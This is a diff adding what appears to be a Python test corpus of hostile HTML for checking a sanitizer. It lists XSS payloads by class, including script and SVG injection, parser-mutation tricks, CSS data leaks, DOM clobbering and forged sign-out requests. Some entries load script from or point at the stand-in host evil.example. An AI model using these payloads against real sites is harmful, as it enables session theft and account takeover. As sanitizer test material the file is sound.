@@ -1,0 +1,111 @@
+"""What strangers put into HTML, by class. Each is tried by itself, wrapped, mixed, and in a real browser."""
+
+ACTS = {
+    "scripts": [
+        "<script>alert(1)</script>",
+        "<script src=//evil.example/x.js></script>",
+        "<scr<script>ipt>alert(1)</scr</script>ipt>",
+        "<script/x>alert(1)</script\t>",
+    ],
+    "event handlers": [
+        "<img src=x onerror=alert(1)>",
+        "<img src=x:x onerror\n=\nalert(1)>",
+        '<img src="cid:shot" onload=alert(1) alt="A screenshot">',
+        "<body onload=alert(1)><details open ontoggle=alert(1)><marquee onstart=alert(1)>x</marquee>",
+        "<input autofocus onfocus=alert(1)><p onpointerrawupdate=alert(1) oncontentvisibilityautostatechange=alert(1)>x</p>",
+        "<a onmouseover=alert(1) href=https://ok.example/>x</a><p/onclick=alert(1)>x",
+    ],
+    "svg": [
+        "<svg onload=alert(1)><animate attributeName=href values=javascript:alert(1)></svg>",
+        "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
+        "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'></use></svg>",
+        "<svg><script>alert&#40;1)</script></svg><svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></svg>",
+        "<svg><set attributeName=onmouseover to=alert(1)><image href=/leak /></svg>",
+    ],
+    "math and namespaces": [
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+        "<form id=x><math></form><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=alert(1) src=1>'>",
+        "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
+        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
+        "<math href=javascript:alert(1)>x</math><math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
+    ],
+    "parsers that disagree": [
+        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+        "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
+        "<title></title><xmp><img src=x onerror=alert(1)></xmp>",
+        "<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]>",
+        "<template><img src=x onerror=alert(1)></template><select><script>alert(1)</script></select>",
+        "<b><p><table><b><td></b><i></table></p>",
+        "<!--!><img src=x onerror=alert(1)>--!><?php <img src=x onerror=alert(1)> ?>",
+        "<plaintext><img src=x onerror=alert(1)>",
+        "<a href='https://ok.example/'><a><p><a href=javascript:alert(1)>x</a>",
+        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing><p title=`</p><img src=x onerror=alert(1)>`>",
+    ],
+    "frames and plugins": [
+        "<iframe srcdoc='<script>alert(1)</script>'></iframe><iframe src=javascript:alert(1)></iframe>",
+        "<object data=/desk/></object><embed src=/desk/><applet code=x></applet>",
+        "<object data='data:text/html,<script>alert(1)</script>'></object><portal src=/desk/></portal>",
+        "<frameset onload=alert(1)><frame src=/desk/></frameset>",
+    ],
+    "forms": [
+        "<form action=/portal/><input name=x formaction=javascript:alert(1)><button>x</button></form>",
+        "<form id=composer method=post action=/sign-out/><input name=csrfmiddlewaretoken><button form=composer>x</button>",
+        "<isindex action=javascript:alert(1) type=image><keygen autofocus onfocus=alert(1)>",
+    ],
+    "links": [
+        "<a href=javascript:alert(1)>x</a>",
+        "<a href='java\tscript:alert(1)'>x</a><a href=' \x01javascript:alert(1)'>x</a>",
+        "<a href='&#106;avascript&colon;alert(1)'>x</a><a href='JaVaScRiPt&NewLine;:alert(1)'>x</a>",
+        "<a href=/desk/>x</a><a href=desk>x</a><a href=//evil.example>x</a><a href=https:desk>x</a><a href='https:\\\\x'>x</a>",
+        "<a href='data:text/html,<script>alert(1)</script>'>x</a><a href=vbscript:x>x</a><a href=file:///etc/passwd>x</a>",
+        "<a href=https://ok.example target=_top rel=opener ping=/x download id=a name=b>x</a>",
+        "<a href=https://ok.example/<script>alert(1)</script>>x</a>",
+        '<a href="https://ok.example/&quot; onclick=alert(1) x=&quot;">x</a>',
+    ],
+    "style": [
+        "<style>@import '/x'; input[value^=a]{background:url(/leak)}</style>",
+        "<p style='background:url(/x)' class=btn id=main name=body data-x=1 aria-label=x title=x role=button>x</p>",
+        '<p style="width:expression(alert(1));-moz-binding:url(/x)">x</p><style></style><style>*{content:url(/x)}</style>',
+        "<font color=red face=x size=7>x</font><table bgcolor=red background=/x style='position:fixed;inset:0'><td>x</table>",
+    ],
+    "the head": [
+        "<base href=//evil.example><link rel=stylesheet href=/x><meta http-equiv=refresh content='0;url=/x'>",
+        "<link rel=prefetch href=/x><link rel=dns-prefetch href=//evil.example><link rel=modulepreload href=/x.js>",
+        "<meta http-equiv=Content-Security-Policy content='default-src *'><meta charset=utf-7>+ADw-script+AD4-alert(1)",
+        "<meta http-equiv=set-cookie content='tandem_session=x'><html manifest=/x><meta name=referrer content=unsafe-url>",
+    ],
+    "requests": [
+        "<img src=/portal/sign-out/>",
+        "<img src=../../desk/ srcset='/a 1x'>",
+        "<video src=/x poster=/y></video><audio src=/x></audio><picture><source srcset=/x></picture>",
+        "<table background=/x><td background=/x colspan=2 rowspan=99999>x</td></table>",
+        "<img lowsrc=/x dynsrc=/y longdesc=/z usemap=#m><map name=m><area href=/x></map><track src=/x>",
+        "<input type=image src=/x><body background=/x><blockquote cite=/x>x</blockquote>",
+    ],
+    "names that take ours away": [
+        "<img name=body><form name=getElementById><input name=attributes></form>",
+        "<a id=htmx></a><a id=htmx name=config href=cid:alert(1)>x</a>",
+        "<form id=composer><output name=innerHTML></output></form><p id=flash data-words hx-get=/desk/ hx-trigger=load>x</p>",
+        "<img id=__proto__><img name=constructor><p is=relative-time slot=x part=y>x</p>",
+    ],
+    "letters": [
+        "<a href=javas\x00cript:alert(1)>x</a><scr\x00ipt>alert(1)</script>",
+        "\u202e<b>x\u2066</b>\u00ad\u200b\ufeff",
+        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e\u02bbonerror\u02bc",
+        "&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;img src=x onerror=alert(1)&#62;&LT;b&GT;",
+        "<pre>\n\n\n\n\n\n\n\nx</pre>",
+    ],
+}
+AROUND = [
+    "{}",
+    "<div>{}</div>",
+    "<table>{}</table>",
+    "<p><b>{}",
+    "<svg>{}</svg>",
+    "<select>{}</select>",
+    "<pre>\n{}</pre>",
+]
+PIECES = [
+    "<", ">", '"', "'", "<p ", "</p>", "<b x=1>", "</b>", "<table>", "<td>", "<a href=", "<pre>", "\n", "&#1;", "&#13;",
+    "&lt;", "&amp", "https://ok.example", "<!--", "-->", "<svg>", "<math>", ' src="data:x"',
+]  # fmt: skip
